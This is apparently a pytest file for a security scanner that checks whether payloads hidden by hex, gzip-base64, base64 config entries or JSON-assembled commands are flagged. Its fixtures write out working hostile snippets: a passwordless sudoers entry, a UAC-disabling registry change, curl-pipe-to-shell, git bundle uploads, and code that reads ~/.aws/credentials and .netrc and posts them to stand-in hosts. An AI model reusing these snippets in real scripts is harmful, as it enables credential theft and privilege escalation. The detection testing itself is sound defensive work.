"""Code-gap mechanisms from held-out-code-13: values a script decodes or assembles before use.

Each test has a catch and a near-miss that must stay clean.
"""

from __future__ import annotations

import base64
import gzip

from tests.scan.gap_helpers import scan


def _rules(r, path=None):
    return {f.rule for f in r.findings if f.grades and (path is None or f.file == path)}


def _cats(r, path=None):
    return {f.category for f in r.findings if f.grades and (path is None or f.file == path)}


# --- short hex beside a hex decoder ------------------------------------------------------------

def _hex(s: str) -> str:
    return s.encode().hex()


def test_short_hex_decoded_by_xxd_is_read():
    script = ("#!/bin/bash\n"
              f'rule=$(printf "$(echo {_hex("%s ALL=(ALL) NOPASSWD: ALL")} | xxd -r -p)" "$(id -un)")\n'
              f"dest=$(echo {_hex('/etc/sudoers.d/00-tools')} | xxd -r -p)\n"
              'printf "%s\\n" "$rule" | sudo tee "$dest" >/dev/null\n')
    assert "privilege-escalation" in _cats(scan({"scripts/setup.sh": script}), "scripts/setup.sh")


def test_hex_hash_beside_decoder_is_not_text():
    # a digest compared after decoding: hex that decodes to no text is not a hidden payload
    script = ("#!/bin/bash\n"
              "want=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n"
              'got=$(sha256sum file | cut -d" " -f1 | xxd -r -p | base64)\n')
    r = scan({"scripts/check.sh": script})
    assert "HT-04" not in _rules(r) and "privilege-escalation" not in _cats(r)


def test_short_hex_without_decoder_is_left():
    script = f"#!/bin/bash\nlabel={_hex('%s ALL=(ALL) NOPASSWD: ALL')}\necho $label\n"
    assert "privilege-escalation" not in _cats(scan({"scripts/x.sh": script}))


# --- compressed base64 blobs -----------------------------------------------------------------------

def test_gzip_base64_payload_is_inflated_and_read():
    payload = ('Set-ItemProperty -Path "HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System" '
               "-Name EnableLUA -Value 0\n")
    blob = base64.b64encode(gzip.compress(payload.encode())).decode()
    script = (f"$b = '{blob}'\n"
              "$raw = [IO.MemoryStream]::new([Convert]::FromBase64String($b))\n"
              "$gz = [IO.Compression.GZipStream]::new($raw, [IO.Compression.CompressionMode]::Decompress)\n"
              "$t = [IO.StreamReader]::new($gz).ReadToEnd()\n")
    assert "privilege-escalation" in _cats(scan({"scripts/tune.ps1": script}), "scripts/tune.ps1")


def test_gzip_base64_of_harmless_text_is_clean():
    payload = "Write-Host 'building the project with four workers, please wait'\n" * 3
    blob = base64.b64encode(gzip.compress(payload.encode())).decode()
    script = f"$b = '{blob}'\n$raw = [Convert]::FromBase64String($b)\n"
    r = scan({"scripts/tune.ps1": script})
    assert not {"privilege-escalation", "supply-chain", "exfiltration"} & _cats(r)


# --- base64 entries of a data file a script reads ----------------------------------------------------

_SENDER = ("import base64, configparser, glob, os, urllib.request\n"
           "cp = configparser.ConfigParser(); cp.read('templates.cfg')\n"
           "out = {}\n"
           "for enc in cp.get('cache', 'hints').split(','):\n"
           "    for p in glob.glob(os.path.expanduser(base64.b64decode(enc).decode())):\n"
           "        out[p] = open(p).read()\n"
           "req = urllib.request.Request(cp.get('style', 'url'), data=repr(out).encode())\n"
           "urllib.request.urlopen(req)\n")


def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


def test_base64_entries_of_a_data_file_name_credentials():
    cfg = f"[style]\nurl = https://styles.example.io/v2\n[cache]\nhints = {_b64('~/.gitconfig')},{_b64('~/.aws/credentials')}\n"
    r = scan({"scripts/render.py": _SENDER, "scripts/templates.cfg": cfg})
    assert "EX-02" in _rules(r, "scripts/render.py")


def test_base64_entries_naming_project_files_are_clean():
    cfg = f"[style]\nurl = https://styles.example.io/v2\n[cache]\nhints = {_b64('docs/style.md')},{_b64('CHANGELOG.md')}\n"
    r = scan({"scripts/render.py": _SENDER, "scripts/templates.cfg": cfg})
    assert "EX-02" not in _rules(r)


# --- a command assembled from a JSON file's values ------------------------------------------------

_INSTALLER = ("import json, subprocess\n"
              "cfg = json.load(open('assets/channel.json'))\n"
              "c = cfg['channel']\n"
              "cmd = ' '.join(c['fetch'] + [c['base'] + c['file']] + c['via'])\n"
              "subprocess.Popen(['/bin/sh', '-c', cmd])\n")


def test_json_values_joined_into_a_download_and_run():
    data = ('{\n  "label": "com.sync.agent",\n  "channel": {\n    "fetch": ["curl", "-fsSL"],\n'
            '    "base": "https://dl.sync-tools.io",\n    "file": "/runner/run.sh",\n    "via": ["|", "/bin/sh"]\n  }\n}\n')
    r = scan({"scripts/install.py": _INSTALLER, "assets/channel.json": data})
    assert "SC-01" in _rules(r, "assets/channel.json")


def test_json_values_of_a_plain_download_are_clean():
    data = ('{\n  "label": "com.sync.agent",\n  "channel": {\n    "fetch": ["curl", "-fsSL", "-o", "run.tar.gz"],\n'
            '    "base": "https://dl.sync-tools.io",\n    "file": "/runner/run.tar.gz",\n    "via": ["--retry", "3"]\n  }\n}\n')
    r = scan({"scripts/install.py": _INSTALLER, "assets/channel.json": data})
    assert not _rules(r, "assets/channel.json")


def test_json_not_named_by_a_script_is_not_joined():
    data = '{"steps": ["curl -fsSL https://dl.sync-tools.io/run.sh", "|", "sh"]}\n'
    r = scan({"scripts/install.py": "print('hello')\n", "assets/other.json": data})
    assert "SC-01" not in _rules(r, "assets/other.json")


# --- the repository's content or history sent out (two halves in one script) ---------------------

def test_repo_bundle_uploaded_is_exfiltration():
    script = ('#!/bin/sh\nname="$(basename "$(git rev-parse --show-toplevel)")"\n'
              'git bundle create "/tmp/$name.bundle" --all\n'
              'for f in /tmp/$name.*; do\n  curl -fsS -T "$f" "${SCHEME}://${HOST}.${ZONE}/u/$(basename "$f")"\ndone\n')
    assert "exfiltration" in _cats(scan({"scripts/snap.sh": script}), "scripts/snap.sh")


def test_commit_patch_posted_by_a_hook_is_exfiltration():
    hook = ('#!/bin/sh\nurl=$(python3 -c "import json;print(json.load(open(\'cfg.json\'))[\'url\'])")\n'
            '{ git show --stat --patch --no-color HEAD; } | curl -fsS --data-binary @- "$url"\n')
    assert "exfiltration" in _cats(scan({"hooks/post-commit": hook}), "hooks/post-commit")


def test_repo_bundle_kept_local_is_clean():
    script = ('#!/bin/sh\ngit bundle create "backup/$(date +%s).bundle" --all\n'
              'curl -fsSL https://api.github.com/repos/o/r/releases/latest -o latest.json\n')
    assert "exfiltration" not in _cats(scan({"scripts/backup.sh": script}))


# --- a payload decoded in a script or data file is read as code ------------------------------------

def _wrapped(code: str) -> str:
    b = base64.b64encode(code.encode()).decode()
    return "\n".join(b[i:i + 76] for i in range(0, len(b), 76)) + "\n"


_LOADER = ("require 'base64'\nDir[File.join(__dir__, 'presets', '*.b64')].each do |p|\n"
           "  instance_eval(Base64.decode64(File.read(p)), p)\nend\n")


def test_packed_code_with_both_halves_is_read_as_code():
    code = ("require 'net/http'\nbag = {}\n%w[.aws/credentials .netrc .config/gh/hosts.yml].each do |f|\n"
            "  p = File.join(Dir.home, f)\n  bag[f] = File.read(p) if File.exist?(p)\nend\n"
            "Net::HTTP.post(URI('https://telemetry.example.dev/v1'), bag.to_json)\n")
    r = scan({"scripts/apply.rb": _LOADER, "scripts/presets/shared.b64": _wrapped(code)})
    assert "exfiltration" in _cats(r, "scripts/presets/shared.b64")


def test_packed_code_that_only_formats_is_clean():
    code = ("require 'yaml'\ncfg = YAML.load_file('.rubocop.yml')\ncfg['Layout/LineLength'] = { 'Max' => 120 }\n"
            "File.write('.rubocop.yml', cfg.to_yaml)\nputs 'updated the line length of the preset file'\n")
    r = scan({"scripts/apply.rb": _LOADER, "scripts/presets/shared.b64": _wrapped(code)})
    assert not {"exfiltration", "secrets", "supply-chain"} & _cats(r)
